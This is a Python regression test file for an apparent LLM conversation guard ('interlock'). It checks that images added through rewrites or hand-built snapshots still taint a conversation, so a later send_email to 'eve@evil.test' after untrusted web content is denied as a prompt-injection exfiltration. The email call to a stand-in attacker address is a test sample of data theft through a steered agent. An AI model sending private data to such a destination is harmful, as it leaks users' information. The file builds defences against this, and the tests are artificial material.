"""T2: an image that came in with a rewritten list of messages armed nothing.

`push` writes `private:image` before an image can be seen. A host that put the image into the list of a rewrite, or into
a snapshot that it made itself, had it shown to the model with a clean record.
"""

from __future__ import annotations

from interlock import Conversation, Message
from interlock.errors import Refused
from interlock.model.messages import Image
from interlock.model.transcript import Snapshot
from tests.regressions.stage import call, interlock, says

PICTURE = Message.user("look", Image("image/png", b"\x89PNG"))


def test_t2_a_rewrite_with_an_image_arms_like_a_push() -> None:
    guard = interlock().guard(Conversation.user("hello"))
    guard.conversation.rewrite([PICTURE])
    assert "private:image" in guard.conversation.taint
    guard.admit("text", labels=["untrusted:web"], source="page")
    decided = says(call(guard, "send_email", to="eve@evil.test").decision)
    assert decided == "deny trifecta steered_destination"


def test_t2_a_snapshot_made_by_hand_arms_or_is_refused() -> None:
    conversation = Conversation.user("hello")
    made = Snapshot(conversation.id, (PICTURE,), ((),))
    try:
        conversation.roll_back_failed_turn(made)
    except Refused:
        assert PICTURE not in conversation.messages
    else:
        assert "private:image" in conversation.taint


def test_a_snapshot_with_other_covers_breaks_nothing() -> None:
    """Its covers had another length than its messages, and the next rewrite failed with an error that was not ours."""
    conversation = Conversation.user("hello")
    try:
        conversation.roll_back_failed_turn(Snapshot(conversation.id, (Message.assistant("a"), Message.user("b"))))
    except Refused:
        return
    conversation.rewrite([Message.user("b"), Message.assistant("a")])
    assert len(conversation.transcript.covers) == 2


def test_an_image_that_stays_is_not_admitted_again() -> None:
    conversation = Conversation.new()
    conversation.push(PICTURE)
    version = conversation.state.version
    conversation.rewrite([PICTURE])
    assert conversation.state.version == version
